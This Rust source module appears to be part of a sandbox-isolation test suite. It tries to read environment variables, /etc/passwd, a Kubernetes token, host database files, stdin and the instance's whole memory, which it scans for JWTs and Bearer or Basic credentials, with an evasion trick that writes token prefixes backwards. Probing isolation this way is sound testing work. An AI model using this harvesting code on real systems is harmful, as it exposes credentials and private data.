//! What lies around: the environment, files, memory.

use crate::{Outcome, Target};
use std::io::Read as _;

/// Something that looks like a token: a JWT, an `Authorization` value, a key with a well-known beginning. Returns it.
///
/// Its own attempts write `forged`, and stars are what the host leaves of a secret; neither is a catch.
pub(crate) fn secret(bytes: &[u8]) -> Option<String> {
    // Written backwards, so that the scan of the memory does not find this list.
    let beginnings: [&[u8]; 7] = [b"Jye", b" reraeB", b" reraeb", b" cisaB", b".92ay", b"_phg", b"_evil_ks"];
    (0..bytes.len()).find_map(|at| {
        let rest = &bytes[at..];
        let beginning =
            beginnings.iter().find(|beginning| rest.iter().take(beginning.len()).eq(beginning.iter().rev()))?;
        let (beginning, rest) = rest.split_at(beginning.len());
        let length = rest.iter().take_while(|&&byte| is_token(byte)).count();
        (length >= 12 && !rest.starts_with(b"forged"))
            .then(|| String::from_utf8_lossy(&[beginning, &rest[..length]].concat()).into_owned())
    })
}

/// What a token is written with (RFC 6750 §2.1).
fn is_token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"-._~+/=".contains(&byte)
}

pub(crate) fn environment(_: &Target) -> Outcome {
    let all: Vec<String> =
        std::env::vars().map(|(name, value)| format!("{name}={value}")).chain(std::env::args()).collect();
    if all.is_empty() { Outcome::Nothing("the environment is empty".into()) } else { Outcome::Got(all.join(" ")) }
}

pub(crate) fn files(_: &Target) -> Outcome {
    let paths = [
        "/",
        ".",
        "/proc/self/environ",
        "/etc/passwd",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "attache.toml",
        "attache.db",
        "../attache.db",
    ];
    Outcome::of(paths.map(|path| match std::fs::read(path).map(|bytes| bytes.len()).or_else(|_| entries(path)) {
        Ok(found) => Outcome::Got(format!("`{path}`: {found}")),
        Err(error) => Outcome::Nothing(format!("`{path}`: {error}")),
    }))
}

fn entries(path: &str) -> std::io::Result<usize> {
    Ok(std::fs::read_dir(path)?.count())
}

pub(crate) fn standard_input(_: &Target) -> Outcome {
    let mut text = String::new();
    match std::io::stdin().take(4096).read_to_string(&mut text) {
        Ok(0) => Outcome::Nothing("the standard input is empty".into()),
        Ok(_) => Outcome::Got(text),
        Err(error) => Outcome::Nothing(error.to_string()),
    }
}

/// Everything in this instance's memory, after all other attempts were made: also what was freed again.
#[cfg(target_arch = "wasm32")]
pub(crate) fn memory(_: &Target) -> Outcome {
    const PAGE: usize = 64 * 1024;
    let length = core::arch::wasm32::memory_size::<0>() * PAGE;
    let mut copy = Vec::new();
    let mut at = 1;
    let mut found = None;
    while at < length && found.is_none() {
        copy.clear();
        let end = (at + PAGE).min(length);
        #[expect(unsafe_code, reason = "the attack: reads its own memory from end to end, which is all within bounds")]
        copy.extend((at..end).map(|address| unsafe { core::ptr::read_volatile(address as *const u8) }));
        found = secret(&copy);
        // The next piece begins inside this one: a token that lies across the border is in one of them.
        at = if end == length { end } else { end - PAGE / 16 };
    }
    match found {
        Some(secret) => Outcome::Got(secret),
        None => Outcome::Nothing(format!("{length} bytes, and no token in them")),
    }
}

#[cfg(not(target_arch = "wasm32"))]
pub(crate) fn memory(_: &Target) -> Outcome {
    Outcome::Nothing("this is not a component".into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expect: Option<&str>) {
        assert_eq!(secret(text.as_bytes()).as_deref(), expect, "{text}");
    }

    #[test]
    fn a_token_is_noticed_wherever_it_stands() {
        check("{\"t\":\"eyJhbGciOiJSUzI1NiJ9.e30.c2ln\"}", Some("eyJhbGciOiJSUzI1NiJ9.e30.c2ln"));
        check("authorization: Bearer 0123456789abcdef", Some("Bearer 0123456789abcdef"));
        check("x Basic dXNlcjpwYXNzd29yZA==", Some("Basic dXNlcjpwYXNzd29yZA=="));
    }

    #[test]
    fn what_is_not_a_token_is_not_reported() {
        check("authorization: Bearer ****************", None);
        check("Bearer forgedCookiesession=forged", None);
        check("the scheme is Bearer here", None);
    }
}
